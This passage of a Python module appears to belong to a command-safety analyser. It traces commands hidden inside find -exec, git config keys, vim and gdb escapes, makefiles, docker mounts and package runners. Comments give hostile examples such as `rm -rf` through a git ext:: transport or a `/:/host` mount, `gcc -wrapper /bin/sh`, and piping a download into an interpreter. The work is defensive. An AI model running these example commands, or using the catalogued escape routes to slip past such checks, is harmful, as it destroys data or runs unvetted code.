        for item in items[:16] or [""]:
            _run([w.replace(replace, item) for w in inner], state, tagged, level, None)
        return
    _run(inner + items, state, tagged, level, None)


def _h_find(argv: list[str], state: _State, via: tuple[str, ...], level: int, stdin: _Stream | None) -> None:
    args = argv[1:]
    starts: list[str] = []
    i = 0
    while i < len(args) and args[i] in ("-H", "-L", "-P"):
        i += 1
    while i < len(args) and not args[i].startswith(("-", "(", "!", ")")):
        starts.append(args[i])
        i += 1
    starts = starts or ["."]
    roots = [canonical(s, state.cwd, state.home) for s in starts]
    names: list[str] = []
    expr = args[i:]
    deletes = "-delete" in expr
    execs_write = False  # a command run on each match writes it (`-exec sed -i ... {} +`)
    j = 0
    while j < len(expr):
        word = expr[j]
        if word in ("-name", "-iname") and j + 1 < len(expr) and (j == 0 or expr[j - 1] not in ("!", "-not")):
            names.append(expr[j + 1])
            j += 2
            continue
        if word in ("-exec", "-execdir", "-ok", "-okdir"):
            end = j + 1
            while end < len(expr) and expr[end] not in (";", "+"):
                end += 1
            inner = expr[j + 1 : end]
            j = end + 1
            if inner:
                in_dir = word in ("-execdir", "-okdir")
                execs_write |= _find_exec(inner, roots, names, state, (*via, f"find {word}"), level, in_dir)
            continue
        if word in ("-fprint", "-fprintf", "-fls") and j + 1 < len(expr):
            _add_path(expr[j + 1], state, write=True)
        j += 1
    for start in starts:
        _add_path(start, state, write=deletes)
    touches = deletes or any(w in expr for w in ("-exec", "-execdir", "-ok", "-okdir"))
    sweep = "delete" if deletes or _execs(expr, (Role.DELETES,)) else ""
    sweep = sweep or (
        "change" if execs_write or _execs(expr, (Role.WRITES, Role.METADATA, Role.SHELL)) else ""
    )
    for name in names:
        for root in roots:
            _find_name(root, name, state, deletes, touches)
            if sweep:  # every file of that name below the root is deleted (or changed)
                state.note(f"sweep-{sweep}:{root.rstrip('/') or '/'}/**/{name.rsplit('/', 1)[-1]}")


def _execs(expr: list[str], roles: tuple[Role, ...]) -> bool:
    """A find expression hands its matches to a program playing one of `roles` (`-exec rm {} +`), seen
    through wrappers (`-exec sudo rm {} +`); `-exec du -s {} +` only reads them."""
    for i, word in enumerate(expr[:-1]):
        if word not in ("-exec", "-execdir", "-ok", "-okdir"):
            continue
        j = i + 1
        while j < len(expr) - 1 and has(_basename(expr[j]), Role.WRAPPER):
            j += 1
        if any(has(_basename(expr[j]), role) for role in roles):
            return True
    return False


def _find_name(root: str, name: str, state: _State, write: bool, touches: bool) -> None:
    """`find ROOT -name X`: a literal X is a path below ROOT; a pattern is noted like a glob. (What a find
    deletes or changes is also noted by `_h_find` as `sweep:ROOT/**/X`: every file of that name at any
    depth below ROOT, which rules hold against the paths they protect.)"""
    base = name.rsplit("/", 1)[-1]
    if not any(c in base for c in "*?["):
        path = os.path.join(root, base)
        state.paths.append(path)
        if write:
            state.write_paths.append(path)
        return
    state.note(f"glob:{root}/**/{base}")
    if touches:  # the pattern itself stands for its matches, so rules can match protected names against it
        state.paths.append(os.path.join(root, base))
        if write:
            state.write_paths.append(os.path.join(root, base))
    hit = _probe(base, dotfiles=True) if touches else None
    if hit is not None:
        path = os.path.join(root, hit)
        state.paths.append(path)
        if write:
            state.write_paths.append(path)


def _representative(pattern: str) -> str:
    """A name the glob `pattern` matches: `*` and `?` as `x`, a bracket class as its first character (a
    negated one as `x`)."""
    name = re.sub(r"\[([!^]?)([^\]]+)\]", lambda m: "x" if m.group(1) else m.group(2)[0], pattern)
    return re.sub(r"\*+|\?", "x", name) or "{}"


def _find_exec(
    inner: list[str],
    roots: list[str],
    names: list[str],
    state: _State,
    via: tuple[str, ...],
    level: int,
    in_dir: bool = False,
) -> bool:
    """Analyse the command `find` runs on each match, with `{}` as one of them; whether it writes that
    match (`sed -i`, `truncate`, `perl -pi`: every file the find reaches is changed). `-execdir` runs it in
    each match's folder: its relative words name files there (`-execdir rm -rf .git ;` beside each match)."""
    literal = [n for n in names if not any(c in n for c in "*?[")]
    # `{}` is each match below the root; a literal -name tells which one, a pattern gives a representative
    # (`*.py` -> `x.py`: what the command does to a Python file is what it does to each match).
    if literal:
        item = os.path.join(roots[0], literal[0].rsplit("/", 1)[-1])
    elif names:
        item = os.path.join(roots[0], _representative(names[0].rsplit("/", 1)[-1]))
    else:
        item = os.path.join(roots[0], "{}")
    written = len(state.write_paths)
    argv = [w.replace("{}", item) for w in inner]
    if in_dir:  # the files a program is given are named from the match's folder, as it runs there
        argv = _from_folder(argv, os.path.dirname(item))
    _run(argv, state, via, level, None)
    return item in state.write_paths[written:]


def _from_folder(argv: list[str], folder: str) -> list[str]:
    """`rm -rf .git` run in `folder`: its relative file operands (by the program table's `files`) made
    absolute, so every reader of the command sees where they are."""
    entry = program(_basename(argv[0]))
    if entry is None or entry.files is None or not folder:
        return argv
    out, operand = [argv[0]], 0
    for word in argv[1:]:
        if word.startswith("-") or word.startswith(("/", "~", "$")):
            out.append(word)
            continue
        out.append(os.path.join(folder, word) if operand >= entry.files else word)
        operand += 1
    return out


# --------------------------------------------------------------------------- programs that run an argument


def _ansible_absent(args: list[str], value: str) -> str:
    """The path of `ansible HOSTS -m file -a 'path=X state=absent'`: the file module deleting X."""
    modules = _option_values(args, frozenset({"-m", "--module-name"}))
    if not modules or modules[0].rsplit(".", 1)[-1] != "file" or "state=absent" not in value:
        return ""
    found = re.search(r"(?:^|\s)(?:path|dest|name)=(\S+)", value)
    return found.group(1).strip("'\"") if found else ""


def _ansible_cron_job(args: list[str], value: str) -> str:
    """The job of `ansible HOSTS -m cron -a "name=x minute=*/5 job='CMD'"`: the command line it schedules."""
    modules = _option_values(args, frozenset({"-m", "--module-name"}))
    if not modules or modules[0].rsplit(".", 1)[-1] != "cron":
        return ""
    try:
        pairs = [w.split("=", 1) for w in shlex.split(value) if "=" in w]
    except ValueError:
        return value  # unbalanced quotes: the whole value is read as the line
    return next((v for k, v in pairs if k == "job"), "")


def _argument_commands(
    entry: Program,
    name: str,
    argv: list[str],
    state: _State,
    via: tuple[str, ...],
    level: int,
    stdin: _Stream | None = None,
) -> None:
    """Commands a program runs from its own arguments, read from the program table: an option whose value
    is a command line (`rsync -e`, `tar --checkpoint-action=exec=`, `man -P`), an editor's or debugger's
    command (`vim -c '!...'`, `gdb -ex 'shell ...'`), git's command-valued config keys, a make snippet, a
    database client's shell escape, a container's command, a package runner's program (`npx X`, `uvx X`,
    `poetry run X`). Each is analysed as a command of its own."""
    label = f"{name} option"
    args = argv[1:]
    if name == "git":
        _git_config_commands(args, state, via, level)
        return
    if Role.CONTAINER in entry.roles:
        _container(name, args, state, via, level)
        return
    if Role.RUNNER in entry.roles:
        _runner(entry, name, args, state, via, level, stdin)
    if Role.DATABASE_CLIENT in entry.roles:
        _database_escapes(name, args, state, via, level)
        return
    if entry.name == "ssh" or entry.name == "scp":
        _ssh_option_commands(name, args, state, via, level)
    elif entry.name == "sed":
        _sed_commands(args, state, via, level)
    elif entry.name == "fd":
        _fd_exec(args, state, via, level)
    elif entry.name == "kubectl":
        _kubectl_exec(args, state, via, level)
    if entry.remote_runs or entry.remote_options:
        _platform_remote(entry, args, state, via, level)
    if (
        Role.STARTS_SHELL in entry.roles
        and not _option_values(args, entry.command_options)
        and not {"--help", "--version"} & set(args)
    ):
        operands = [w for w in _operands(args, entry.options | entry.command_options) if w != "-"]
        if len(operands) > 1:  # `su - jetty ./run.sh`: the words after the user are the shell's arguments
            _run(["sh", *operands[1:]], state, (*via, name), level, None)
        elif Role.PRIVILEGED not in entry.roles:  # `script -q /dev/null`: the user's own shell, recorded
            if args:  # (a bare `./script` is as likely the project's own file of that name)
                state.flag(f"{name} starts an interactive shell: what it will run is not in the call")
        elif name != "su" or not operands or operands[0] in ("root", "0"):
            state.flag(f"{name} starts a privileged interactive shell: what it will run is not in the call")
        else:  # `su - postgres`: a shell as a service account, no privilege gained; nothing it runs is shown
            state.note(f"{name} starts an interactive shell as another user")
    for value in _option_values(args, entry.command_options):
        if Role.COMPILES in entry.roles:  # `gcc -wrapper /bin/sh,-s .`: a program and its words, by commas
            value = value.replace(",", " ")
        if name == "tar":
            if value.startswith(("exec=", "exec:")) or "--checkpoint-action" not in " ".join(args):
                value = value.split("=", 1)[1] if value.startswith("exec=") else value
            elif not value.startswith("exec"):
                continue  # `--checkpoint-action=dot`: a progress display
        if entry.name == "vim":
            _ex_command(value, state, via, level, name)
        elif name in ("gdb", "lldb"):
            _debugger_command(value, state, via, level, name)
        elif name in ("make", "gmake"):
            _make_text(value, state, via, level)
        elif entry.name == "ansible" and (removed := _ansible_absent(args, value)):
            _run(["rm", "-rf", removed], state, (*via, "ansible file"), level, None)
        elif entry.name == "ansible" and (job := _ansible_cron_job(args, value)):
            state.note("persists: ansible's cron module schedules a job on the hosts")
            state.deferred += 1  # (`-m cron -a "job='...'"`: the job runs there, every time it is due)
            try:
                _analyse_text(job, state, via=(*via, "ansible cron"), level=level + 1, lenient=True)
            finally:
                state.deferred -= 1
        else:
            _shell_string(value, state, via, level, _is_dynamic(value, state), label)
    if entry.name in ("vim", "less"):  # `vim +'!cmd' f`, `less +'!cmd' f`: a command run at start-up
        for word in args:
            if word.startswith("+") and len(word) > 1:
                if entry.name == "vim":
                    _ex_command(word[1:], state, via, level, name)
                elif word[1:].lstrip().startswith("!"):
                    _shell_string(word[1:].lstrip()[1:], state, via, level, False, f"{name} !")
    if name in ("make", "gmake"):
        for i, word in enumerate(args):
            makefile = args[i + 1] if word in ("-f", "--file", "--makefile") and i + 1 < len(args) else ""
            makefile = word.split("=", 1)[1] if word.startswith(("--file=", "--makefile=")) else makefile
            if makefile in _STDIN_FILES or makefile == "-":  # `make -f /dev/stdin <<< RECIPES`
                if stdin is not None and stdin.text is not None:
                    _make_text(stdin.text, state, via, level)
                elif stdin is not None and stdin.sources:
                    state.flag(f"make runs recipes from the output of {stdin.sources[-1]}")
                continue
            path = canonical(makefile, state.cwd, state.home) if makefile else ""
            if path in state.written:  # `echo ... > m.mk; make -f m.mk`: the line wrote the recipes
                text = state.written[path]
                if text is None:
                    state.flag("make runs a makefile the line wrote")
                else:
                    _make_text(text, state, via, level)
            elif path:  # a makefile on disk (`make -f /tmp/x.mk`): its recipes, as they are
                found = _script_on_disk(path, "sh", state)
                if found is not None:
                    _make_text(found, state, via, level)


_CLUSTER = re.compile(r"-[A-Za-z]{2,}")


def _output_files(entry: Program, args: list[str]) -> list[str]:
    """The files a program writes by the table's word for it: its output options' values and its output
    operand (`facts.programs.Program.output_options`, `output_operand`)."""
    found = _option_values(args, entry.output_options)
    if entry.output_operand is not None:
        operands = _operands(args, entry.options | entry.output_options)
        if len(operands) > entry.output_operand and operands[entry.output_operand] != "-":
            found.append(operands[entry.output_operand])
    return found


def _option_values(args: list[str], wanted: frozenset[str]) -> list[str]:
    """The values of the options in `wanted`: `-e CMD`, `--rsh=CMD`, `--rsh CMD`."""
    values: list[str] = []
    if not wanted:
        return values
    for i, word in enumerate(args):
        if word == "--":
            break
        if word in wanted and i + 1 < len(args):
            values.append(args[i + 1])
        elif _CLUSTER.fullmatch(word) and "-" + word[-1] in wanted and i + 1 < len(args):
            values.append(args[i + 1])  # `script -qc CMD`, `rsync -avze CMD`
        elif word.startswith("-") and "=" in word and word.split("=", 1)[0] in wanted:
            values.append(word.split("=", 1)[1])  # `--rsh=CMD`, Go's single-dash `-toolexec=CMD`
    return values


_EX_SHELL = re.compile(
    r"^(?:silent!?\s*|sil!?\s*|exe(?:cute)?\s+)?(?:r(?:ead)?\s*|w(?:rite)?\s+|\d*,?\d*\s*)?!(.*)$", re.S
)
_EX_TERMINAL = re.compile(r"^(?:ter(?:minal)?|te)\s*(?:\+\+\w+\s+)*(.+)$", re.S)
_EX_CODE = re.compile(r"^(?:py(?:thon)?3?|pyx|pythonx|lua|perl|ruby|rub|mz|tcl)(?:do|file)?\b", re.S)
_SYSTEM_CALL = re.compile(r"""\bsystem(?:list)?\s*\(\s*(['"])((?:(?!\1).)*)\1""", re.S)


def _ex_command(text: str, state: _State, via: tuple[str, ...], level: int, name: str) -> None:
    """One vim/ex command line: `!cmd`, `r !cmd`, `w !cmd`, `call system('cmd')`, `terminal cmd`."""
    for part in _ex_split(text):
        part = part.strip().lstrip(":").strip()
        if not part:
            continue
        shell = _EX_SHELL.match(part)
        terminal = _EX_TERMINAL.match(part)
        if shell is not None:
            _shell_string(shell.group(1), state, via, level, _is_dynamic(part, state), f"{name} !")
        elif terminal is not None:
            _shell_string(terminal.group(1), state, via, level, False, f"{name} terminal")
        elif _EX_CODE.match(part):
            state.payloads.append(part)
            state.flag(f"{name} runs code in an embedded interpreter")
        elif re.fullmatch(r"sh(?:e(?:ll?)?)?!?", part):  # `:shell`: an interactive shell from the editor
            state.flag(f"{name} starts an interactive shell: what it will run is not in the call")
        for call in _SYSTEM_CALL.finditer(part):
            _shell_string(call.group(2), state, via, level, False, f"{name} system()")
        if part.startswith(("so ", "source ", "so!", "source!")):
            state.flag(f"{name} sources a script")


def _ex_split(text: str) -> list[str]:
    """Ex commands separated by `|`; a `!` command takes the rest of the line, bar included."""
    parts: list[str] = []
    while text:
        head = text.lstrip().lstrip(":").lstrip()
        if _EX_SHELL.match(head) or head.startswith(("norm", "g/", "g!", "v/")):
            parts.append(head)
            break
        cut = text.find("|")
        if cut < 0:
            parts.append(text)
            break
        parts.append(text[:cut])
        text = text[cut + 1 :]
    return parts


def _debugger_command(text: str, state: _State, via: tuple[str, ...], level: int, name: str) -> None:
    """`gdb -ex 'shell cmd'`, `gdb -ex '!cmd'`, `lldb -o 'platform shell cmd'`, `call system("cmd")`."""
    part = text.strip()
    match = re.match(r"^(?:shell|platform\s+shell|pipe\s+.*?\|)\s+(.*)$|^!(.*)$", part, re.S)
    if match is not None:
        command = match.group(1) if match.group(1) is not None else match.group(2)
        _shell_string(command, state, via, level, _is_dynamic(part, state), f"{name} shell")
    elif re.match(r"^(?:python|py|pi|python-interactive|script|guile|gu|source)\b", part):
        state.payloads.append(part)
        state.flag(f"{name} runs code in an embedded interpreter")
    for call in _SYSTEM_CALL.finditer(part):
        _shell_string(call.group(2), state, via, level, False, f"{name} system()")


_MAKE_SHELL = re.compile(r"\$[({]shell\s+((?:[^()]|\([^()]*\))*)[)}]")


def _make_text(text: str, state: _State, via: tuple[str, ...], level: int) -> None:
    """Makefile text: recipe lines (after a tab or `target: ; `) and `$(shell ...)` run in a shell."""
    for call in _MAKE_SHELL.finditer(text):
        _shell_string(call.group(1), state, via, level, False, "make $(shell)")
    for line in text.replace("\\\n", " ").split("\n"):
        recipe = ""
        if line.startswith("\t"):
            recipe = line[1:]
        elif ":" in line and ";" in line.split("#", 1)[0] and not line.lstrip().startswith("#"):
            head, _, rest = line.partition(";")
            if ":" in head and "=" not in head.split(":", 1)[0]:
                recipe = rest
        recipe = recipe.strip().lstrip("@-+").strip()
        if recipe:
            recipe = re.sub(r"\$\$", "$", recipe)
            _shell_string(recipe, state, via, level, False, "make recipe")


# git config keys whose value is a command line (a leading `!` for aliases and credential helpers).


def _git_runs_later(key: str, value: str) -> bool:
    """A git config key that, set to `value`, makes git run a command or load hooks or config from a
    place (an alias only when it is a shell alias, `!cmd`; `core.fsmonitor` only when it is not a boolean)."""
    if GIT_HOOK_KEYS.match(key):
        return True
    if not GIT_COMMAND_KEYS.match(key) or not value:
        return False
    if key.startswith("alias."):
        return value.startswith("!")
    return not (key == "core.fsmonitor" and value.lower() in ("true", "false", "1", "0", "yes", "no"))


def _hooks_read(folder: str, state: _State, via: tuple[str, ...], level: int) -> bool:
    """`git config core.hooksPath .githooks`: the hooks a folder of the project holds, read as the lines
    they run (judged now, as the commands they are), so a folder of linters and tests sets nothing unknown
    up. False (the setting is asked about) for a folder outside the project, one that cannot be read,
    or one with more hooks than are read."""
    root = canonical(folder, state.cwd, state.home)
    if not root.startswith(state.cwd.rstrip("/") + "/"):
        return False
    if not os.path.exists(root):  # `.husky`, `.githooks` not made yet: a hook written there is judged then
        from limen.facts.paths import describe

        fact = describe(root + "/pre-commit", home=state.home)
        return fact is not None and fact.name in _HOOK_FACTS
    if not os.path.isdir(root):
        return False
    try:
        names = sorted(os.listdir(root))
    except OSError:
        return False
    if len(names) > MAX_HOOKS:
        return False
    state.deferred += 1
    try:
        for name in names:
            text = read_source(os.path.join(root, name), state.cwd, state.home)
            if text is None:
                return False
            _analyse_text(text, state, via=(*via, f"git hook {name}"), level=level + 1, lenient=True)
    finally:
        state.deferred -= 1
    return True


MAX_HOOKS = 16  # hooks of a folder core.hooksPath names that are read; past them, the setting asks
_HOOK_FACTS = frozenset({"git_hook", "husky"})  # the files a write into a hooks folder is judged as


def _git_config_value(key: str, value: str, state: _State, via: tuple[str, ...], level: int) -> None:
    """What a git config key set to `value` would run when git reads it."""
    key = key.lower()
    if GIT_HOOK_KEYS.match(key):
        if not (key == "core.hookspath" and state.deferred):  # `git config core.hooksPath`: read above
            state.flag(f"git runs hooks or config from a place the line names ({key})")
        return
    if key == "protocol.ext.allow" and value.lower() in ("always", "user"):
        state.flag("git allows ext:: transports (they run commands)")
        return
    if not GIT_COMMAND_KEYS.match(key) or not value:
        return
    if key.startswith(("alias.", "credential")):
        if not value.startswith("!"):
            if key.startswith("credential") and value.startswith("/"):
                _shell_string(value, state, via, level, False, f"git {key}")
            return  # an alias of a git sub-command; a helper named `git credential-<value>`
        value = value[1:]
    if key == "core.fsmonitor" and value.lower() in ("true", "false", "1", "0", "yes", "no"):
        return
    _shell_string(value, state, via, level, _is_dynamic(value, state), f"git {key}")


_GIT_COMMAND_OPTIONS = {
    "rebase": ("--exec", "-x"),
    "clone": ("--upload-pack", "-u", "--template"),
    "fetch": ("--upload-pack",),
    "pull": ("--upload-pack",),
    "ls-remote": ("--upload-pack",),
    "push": ("--receive-pack", "--exec"),
    "archive": ("--exec",),
    "difftool": ("-x", "--extcmd"),
    "grep": ("-O", "--open-files-in-pager"),
    "filter-branch": (
        *("--tree-filter", "--index-filter", "--msg-filter", "--commit-filter", "--env-filter"),
        *("--parent-filter", "--tag-name-filter"),
    ),
}


def _git_runs(rest: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """git sub-commands that run a command line: `submodule foreach CMD`, `rebase --exec CMD`,
    `bisect run CMD`, `clone --upload-pack CMD`, `difftool -x CMD`, `filter-branch --tree-filter CMD`."""
    if not rest:
        return
    sub, args = rest[0], rest[1:]
    if sub == "submodule" and "foreach" in args:
        command = [w for w in args[args.index("foreach") + 1 :] if w not in ("--recursive", "-q", "--quiet")]
        if command:
            _shell_string(" ".join(command), state, via, level, False, "git submodule foreach")
        return
    if sub == "bisect" and args[:1] == ["run"] and len(args) > 1:
        _run(args[1:], state, (*via, "git bisect run"), level, None)
        return
    wanted = _GIT_COMMAND_OPTIONS.get(sub)
    if not wanted:
        return
    for i, word in enumerate(args):
        value = None
        if word in wanted and i + 1 < len(args):
            value = args[i + 1]
        elif "=" in word and word.split("=", 1)[0] in wanted:
            value = word.split("=", 1)[1]
        elif word[:2] in wanted and len(word) > 2 and not word.startswith("--"):
            value = word[2:]  # `-x'cmd'`, `-O'cmd'`
        if value and not (sub == "clone" and word.startswith("--template")):
            _shell_string(value, state, via, level, _is_dynamic(value, state), f"git {sub}")
        elif value and sub == "clone":
            state.flag("git clone installs hooks from a template folder")


def _git_config_commands(args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`git -c core.pager='sh -c ...' log`, `git config alias.x '!cmd'`: the commands git config runs."""
    i = 0
    while i < len(args) and args[i].startswith("-"):
        word = args[i]
        if word == "-c" and i + 1 < len(args):
            key, _, value = args[i + 1].partition("=")
            _git_config_value(key, value, state, via, level)
            i += 2
            continue
        if word.startswith("--config-env="):
            state.flag("git reads a config value from the environment")
        i += 2 if word in ("-C", "--git-dir", "--work-tree", "--namespace") else 1
    rest = args[i:]
    _git_runs(rest, state, via, level)
    for word in rest[1:]:
        if word.startswith("ext::"):  # `ext::sh -c rm% -rf% ~`: words split at unescaped spaces
            words = [w.replace("\0", " ").replace("%%", "%") for w in word[5:].replace("% ", "\0").split()]
            if words:
                _run(words, state, (*via, "git ext::"), level, None)
    if rest[:1] != ["config"]:
        return
    words = [w for w in rest[1:] if not w.startswith("-")]
    if (
        len(words) >= 2
        and _git_runs_later(words[0].lower(), words[1])
        and git_value_concerns(words[0].lower(), words[1][1:] if words[1].startswith("!") else words[1])
    ):  # `git config core.editor vim` names a tool; `core.pager 'sh -c ...'` sets up code to run later
        if words[0].lower() != "core.hookspath" or not _hooks_read(words[1], state, via, level):
            state.note(f"persists: git config {words[0]} names what git runs later")
    elif len(words) >= 2 and git_protection_off(words[0].lower(), words[1]):
        state.note(f"persists: git config {words[0]} {words[1]} turns off one of git's protections")
    if len(words) >= 2:  # `git config KEY VALUE`: run whenever git next reads it (later: noted, not opaque)
        state.deferred += 1
        try:
            _git_config_value(words[0], words[1], state, via, level)
        finally:
            state.deferred -= 1


_CONTAINER_OPTS = frozenset(
    {
        *("-v", "--volume", "-e", "--env", "--name", "-p", "--publish", "-w", "--workdir", "--entrypoint"),
        *("--network", "--net", "--pid", "--ipc", "--uts", "--userns", "-u", "--user", "--mount"),
        *("--cap-add", "--cap-drop", "--device", "--security-opt", "-l", "--label", "--env-file"),
        *("--platform", "--restart", "-h", "--hostname", "--add-host", "--dns", "-m", "--memory", "--cpus"),
        *("--gpus", "--log-driver", "--log-opt", "--tmpfs", "--ulimit", "--cgroupns", "--runtime"),
        *("--shm-size", "--stop-signal", "--health-cmd", "-a", "--attach", "--cidfile", "--volumes-from"),
        *("--link", "--expose", "--group-add", "-c", "--cpu-shares", "--pull", "--sysctl", "--ip"),
        *("--network-alias", "--pids-limit", "--memory-swap", "--stop-timeout", "--label-file"),
        *("--detach-keys", "--privileged-mode", "--storage-opt", "--cpuset-cpus", "--init-path"),
    }
)
_CONTAINER_GLOBAL = frozenset({"-H", "--host", "--context", "-c", "--config", "--log-level", "-l"})


def _container(name: str, args: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`docker run [opts] IMAGE CMD...`, `docker exec [opts] CTR CMD...`: the command runs inside the
    container (noted, not opaque here); a host folder mounted into it is reached through its mount
    point, so `-v /:/host ... rm -rf /host` deletes `/`. The escape flags are the rules' to judge."""
    i = 0
    while i < len(args) and args[i].startswith("-"):
        i += 2 if args[i] in _CONTAINER_GLOBAL else 1
    if i >= len(args):
        return
    entry = program(name)
    if entry is not None and entry.pushes:
        _push(entry, args[i:], state)  # `docker push IMAGE`: the image leaves for its registry
    sub = args[i]
    rest = args[i + 1 :]
    if sub in ("container", "compose") and rest:
        sub, rest = rest[0], rest[1:]
    if name == "docker-compose":
        sub, rest = args[i], args[i + 1 :]
    if sub not in ("run", "exec", "create"):
        return
    mounts: list[tuple[str, str]] = []
    entrypoint: list[str] = []
    j = 0
    while j < len(rest) and rest[j].startswith("-") and rest[j] != "--":
        word = rest[j]
        option, eq, attached = word.partition("=")
        value = attached if eq else (rest[j + 1] if option in _CONTAINER_OPTS and j + 1 < len(rest) else "")
        if option in ("-v", "--volume") and ":" in value:
            host, _, inside = value.partition(":")
            if host.startswith(("/", "~", ".", "$")):
                _add_path(host, state, write=False)
                mounts.append((canonical(host, state.cwd, state.home), inside.split(":", 1)[0]))
        elif option == "--mount" and ("source=" in value or "src=" in value):
            parts = {k: v for k, _, v in (p.partition("=") for p in value.split(","))}
            host = parts.get("source") or parts.get("src") or ""
            inside = parts.get("target") or parts.get("destination") or parts.get("dst") or ""
            if host.startswith(("/", "~", ".")):
                _add_path(host, state, write=False)
                mounts.append((canonical(host, state.cwd, state.home), inside))
        elif option == "--entrypoint" and value:
            entrypoint = [value]
        elif option == "--health-cmd" and value:
            _container_line(value, mounts, state, via, level, name)
        j += 1 if eq or option not in _CONTAINER_OPTS else 2
    if j < len(rest) and rest[j] == "--":
        j += 1
    inner = [*entrypoint, *rest[j + 1 :]]  # the image (run) or the container (exec) comes first
    if inner:
        _container_line(" ".join(quote(w) for w in inner), mounts, state, via, level, name)


def _mounted(options: frozenset[str], args: list[str], state: _State) -> None:
    """The host folders a container runtime's mount options put inside the container (`--bind SRC:DST`,
    `-B SRC`): the container's code may read them, as a reader of those paths would."""
    for j, word in enumerate(args[:64]):
        option, eq, attached = word.partition("=")
        if option not in options:
            continue
        value = attached if eq else (args[j + 1] if j + 1 < len(args) else "")
        for bound in value.split(",")[:16]:  # (`--bind a:/a,b:/b`)
            host = bound.split(":", 1)[0]
            if host.startswith(("/", "~", ".", "$")):
                _add_path(host, state, write=False)


def _remount(root: str) -> Callable[[re.Match[str]], str]:
    """A container path under a mount point, as the host path it is (`/host/etc` -> `/etc`)."""
    return lambda match: (root + match.group(1)) if root else "/"


def _container_line(
    text: str, mounts: list[tuple[str, str]], state: _State, via: tuple[str, ...], level: int, name: str
) -> None:
    for host, inside in sorted(mounts, key=lambda m: -len(m[1])):
        inside = inside.rstrip("/")
        if inside.startswith("/") and inside:
            text = re.sub(
                rf"(?<![\w./-]){re.escape(inside)}(/|(?=\s|$|['\"]))", _remount(host.rstrip("/")), text
            )
    cwd = state.cwd
    state.deferred += 1
    try:
        _analyse_text(text, state, via=(*via, name), level=level + 1, lenient=True)
    finally:
        state.cwd = cwd
        state.deferred -= 1


def _runner(
    entry: Program,
    name: str,
    args: list[str],
    state: _State,
    via: tuple[str, ...],
    level: int,
    stdin: _Stream | None = None,
) -> None:
    """`npx pkg args`, `uvx --from x cmd`, `pipx run pkg`, `poetry run cmd`, `npm exec -- cmd`: the
    program a package runner runs, as a command (`npx rimraf ~` deletes like `rm -rf ~`), given what the
    runner is given on its input (`curl ... | bundle exec ruby` runs the download)."""
    rest = list(args)
    after_option = next((i for i, w in enumerate(rest) if w in entry.command_after), None)
    if after_option is not None:  # `nix develop -c cabal build`, `nix shell nixpkgs#psql --command psql ...`
        if rest[after_option + 1 :]:
            _run(rest[after_option + 1 :], state, (*via, name), level, stdin)
        return
    if entry.runs_after:
        words = _operands(rest, entry.options)  # `pnpm --filter @acme/db exec prisma ...`: the value skipped
        if len(words) > 2 and words[0] in entry.scoped_by:
            rest = rest[rest.index(words[0]) + 2 :]  # `yarn workspace web` and the package name
            words = _operands(rest, entry.options)
        after = next((sub for sub in entry.runs_after if words[: len(sub.split())] == sub.split()), None)
        if after is not None:
            rest = rest[rest.index(after.split()[-1]) + 1 :]
        elif entry.own_commands and words and words[0] not in entry.own_commands:
            rest = rest[rest.index(words[0]) :]  # `pnpm --filter db prisma migrate reset`
        else:
            return
    if name == "xterm" or name in ("urxvt", "rxvt"):
        if "-e" in rest:
            inner = rest[rest.index("-e") + 1 :]
            if inner:
                _run(inner, state, (*via, name), level, None)
        return
    if name in ("tmux", "screen"):
        _multiplexer(name, rest, state, via, level)
        return
    i = 0
    while i < len(rest):
        word = rest[i]
        if word == "--":
            i += 1
            break
        if not word.startswith("-"):
            break
        if word in ("-c", "--call") and i + 1 < len(rest) and name in ("npx", "npm", "bunx", "pnpm"):
            _shell_string(rest[i + 1], state, via, level, _is_dynamic(rest[i + 1], state), f"{name} -c")
            return
        i += 2 if word in entry.options else 1
    inner = rest[i + entry.skip_operands :]
    if not inner:
        return
    program_name = inner[0]
    if "#" in program_name and not program_name.startswith(("github:", "git+", "gitlab:", "sourcehut:")):
        # a Nix installable (`nixpkgs#socat`, `.#api`): the attribute's program, given what follows `--`
        program_name = program_name.rsplit("#", 1)[1].rsplit(".", 1)[-1]
        inner = [program_name, *inner[1 + (inner[1:2] == ["--"]) :]]
    if _widely_used_source(program_name):
        # `nix run github:ryantm/agenix -- -e x.age`: the program a repository many projects use makes, as
        # a registry's package is run (`npx pkg`): judged by the words it is given
        match = _GITHUB_SOURCE.search(program_name)
        program_name = (
            program_name.rsplit("#", 1)[1] if "#" in program_name else match.group(2) if match else ""
        )
        inner = [program_name, *inner[1 + (inner[1:2] == ["--"]) :]]
    elif "://" in program_name or program_name.startswith(("github:", "git+", "gitlab:", "bitbucket:")):
        state.flag(f"{name} runs code fetched from {program_name[:80]}")  # `npx -y https://.../tarball/main`
        return
    language = _source_language(program_name)
    if language:  # `uv run scripts/sync.py`: a source file is run by its language's interpreter
        _run([language, *inner], state, (*via, name), level, stdin)
        return
    if not program_name.startswith(("/", ".")):
        program_name = re.sub(r"(?<=.)@[^/]*$", "", program_name).rsplit("/", 1)[-1]  # @scope/pkg@1.2 -> pkg
    if program_name:
        _run([program_name, *inner[1:]], state, (*via, name), level, stdin)


def _source_language(word: str) -> str:
    """The interpreter that runs a program file named by its extension (`scripts/sync.py` -> python), for a
    language Limen reads; `` for anything else (a package's name, a command)."""
    from limen.facts.paths import PROGRAMS

    dot = word.rfind(".")
    if dot <= 0 or "/" in word[dot:] or "://" in word:
        return ""
    fact = PROGRAMS.get(word[dot:].lower())
    how = fact.content if fact is not None else ""
    return how if how in _CODE_LANGS else ""


def _multiplexer(name: str, rest: list[str], state: _State, via: tuple[str, ...], level: int) -> None:
    """`tmux new -d 'cmd'`, `tmux send-keys 'cmd' Enter`, `screen -dm cmd`: commands run in a session."""
    if name == "tmux":
        sub = next((w for w in rest if not w.startswith("-")), "")
        if sub in ("new", "new-session", "new-window", "neww", "split-window", "splitw", "respawn-pane"):
            operands = _operands(
                rest[rest.index(sub) + 1 :], frozenset({"-s", "-n", "-t", "-c", "-x", "-y", "-e", "-F", "-l"})
            )
            if operands:
                _shell_string(" ".join(operands), state, via, level, False, f"tmux {sub}")
        elif sub in ("send-keys", "send"):
            keys = _operands(rest[rest.index(sub) + 1 :], frozenset({"-t", "-N"}))
            text = " ".join(k for k in keys if k not in ("Enter", "C-m", "KPEnter"))
            if text:
                _shell_string(text, state, via, level, False, "tmux send-keys")
        return
    # screen's own options come first; from the first operand on, every word is the command's (`-c` too)
